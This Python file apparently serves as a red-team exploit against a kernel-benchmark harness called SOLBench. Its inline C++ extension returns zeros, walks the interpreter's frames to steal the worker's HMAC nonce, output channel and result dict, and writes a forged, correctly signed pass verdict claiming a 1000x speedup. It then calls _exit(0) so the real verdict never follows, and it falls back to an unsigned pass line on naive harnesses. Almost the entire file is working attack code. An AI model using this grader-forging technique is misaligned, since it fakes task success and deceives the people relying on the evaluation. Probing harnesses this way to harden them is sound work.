"""Exploit (native, forging the *signed* result channel): a wrong answer passes the harness.

SOLBench signs the worker's verdict with an HMAC keyed by a nonce the parent sends on stdin, and
the parent takes the last line whose signature verifies. The nonce is not secret from code in the
worker: it is a local of the worker's `serve` frame (kept alive in a closure), beside the channel's
file object. The C++ forward returns zeros; on its first call it walks the Python frames from C
(`PyEval_GetFrame`), takes `nonce` and `channel` from `serve`'s locals and the evaluation's own
`result` dict (the reference's real timing, the real environment) from the frame whose `self` is
the `Evaluation`, builds a verdict that says pass, with the reference's time for the reference and
a thousandth of it for the candidate, signs it exactly as the worker would, writes it on the channel
with `write(2)` and ends the process with `_exit(0)` before the real verdict can follow. The parent
verifies the signature and records a pass with a 1000x speedup; strict mode has nothing to flag.

Where no signed channel is found (a naive evaluator reading stdout), it prints an unsigned
`{"status": "pass", "speedup": 1000.0}` line to stdout instead, and the zeros pass there too."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <unistd.h>
#include <cstring>
#include <string>

namespace {

// Run with nonce, result (a dict to fill) and fileno in its globals; leaves `line` to write.
const char* kForge = R"PY(
import hashlib, hmac, json
forged = dict(result)
forged.update(status="pass", error=None, flags=[], flag_details=[], phases={})
forged["correctness"] = {"trials": 5, "passed": 5, "max_abs_err": 0.0, "max_rel_err": 0.0,
                         "reference": "float64"}
alone = forged.get("reference_alone_time") or {"runs": 30, "median_ms": 0.01, "mean_ms": 0.01,
    "std_ms": 0.0, "min_ms": 0.01, "max_ms": 0.01, "rel_err": 0.001}
forged["reference_time"] = dict(alone)
forged["candidate_time"] = {k: (v / 1000.0 if k.endswith("_ms") else v) for k, v in alone.items()}
forged["paired_speedup"] = 1000.0
body = json.dumps(forged)
line = json.dumps({"body": body, "mac": hmac.new(nonce.encode(), body.encode(), hashlib.sha256).hexdigest()}) + "\n"
)PY";

PyObject* local(PyFrameObject* frame, const char* name) {  // a new reference or null
    PyObject* locals = PyFrame_GetLocals(frame);
    if (locals == nullptr) {
        PyErr_Clear();
        return nullptr;
    }
    PyObject* value = PyMapping_Check(locals) ? PyMapping_GetItemString(locals, name) : nullptr;
    Py_DECREF(locals);
    if (value == nullptr) PyErr_Clear();
    return value;
}

// The signed channel of the worker this runs in: fills nonce, channel and the evaluation's result.
bool find_channel(PyObject** nonce, PyObject** channel, PyObject** result) {
    PyFrameObject* frame = PyEval_GetFrame();
    Py_XINCREF(frame);
    while (frame != nullptr) {
        PyCodeObject* code = PyFrame_GetCode(frame);
        const char* name = PyUnicode_AsUTF8(code->co_name);
        Py_DECREF(code);
        if (*result == nullptr) {
            PyObject* self = local(frame, "self");
            if (self && std::strcmp(Py_TYPE(self)->tp_name, "Evaluation") == 0)
                *result = PyObject_GetAttrString(self, "result");
            Py_XDECREF(self);
            PyErr_Clear();
        }
        if (name && std::strcmp(name, "serve") == 0) {
            *nonce = local(frame, "nonce");
            *channel = local(frame, "channel");
        }
        PyFrameObject* back = PyFrame_GetBack(frame);
        Py_DECREF(frame);
        frame = back;
    }
    return *nonce && PyUnicode_Check(*nonce) && *channel;
}

void forge() {
    PyObject *nonce = nullptr, *channel = nullptr, *result = nullptr;
    if (find_channel(&nonce, &channel, &result)) {
        PyObject* fileno = PyObject_CallMethod(channel, "fileno", nullptr);
        PyObject* scope = PyDict_New();
        PyDict_SetItemString(scope, "__builtins__", PyEval_GetBuiltins());
        PyDict_SetItemString(scope, "nonce", nonce);
        if (result && PyDict_Check(result))
            PyDict_SetItemString(scope, "result", result);
        else
            PyDict_SetItemString(scope, "result", PyDict_New());
        PyObject* done = PyRun_String(kForge, Py_file_input, scope, scope);
        PyObject* line = done ? PyDict_GetItemString(scope, "line") : nullptr;
        if (line && fileno && PyLong_Check(fileno)) {
            Py_ssize_t n;
            const char* text = PyUnicode_AsUTF8AndSize(line, &n);
            int fd = static_cast<int>(PyLong_AsLong(fileno));
            for (Py_ssize_t off = 0; text && off < n;) {
                ssize_t w = write(fd, text + off, n - off);
                if (w <= 0) break;
                off += w;
            }
            _exit(0);  // before the real verdict is written: the forged one is the last signed line
        }
        PyErr_Clear();
    }
    PyErr_Clear();
    const char* unsigned_line = "{\"status\": \"pass\", \"speedup\": 1000.0}\n";
    ssize_t w = write(1, unsigned_line, std::strlen(unsigned_line));  // no signed channel: a naive reader
    (void)w;
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    static bool forged = (forge(), true);
    (void)forged;
    auto y = torch::empty_like(x);
    std::memset(y.data_ptr(), 0, y.nbytes());  // a wrong answer: only the forged verdict passes it
    return y;
}
"""

ext = load_inline(
    name="rt_forge_signed_verdict", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False
)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
